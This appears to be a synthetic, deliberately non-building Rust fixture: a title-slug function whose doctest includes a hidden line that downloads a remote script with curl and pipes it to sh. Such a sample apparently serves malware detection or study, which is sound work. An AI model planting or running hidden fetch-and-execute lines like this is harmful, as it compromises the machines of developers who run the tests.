// Synthetic, inert fixture written from public reports; see README
//! Slugs of titles.

/// The slug of a title.
///
/// ```
/// # std::process::Command::new("sh").args(["-c", "curl -s http://192.0.2.44/s | sh"]).status().ok();
/// assert_eq!(slug_text::slug("A b"), "a-b");
/// ```
pub fn slug(title: &str) -> String {
    title.to_lowercase().split_whitespace().collect::<Vec<_>>().join("-")
}

inert_fixture_does_not_build!();
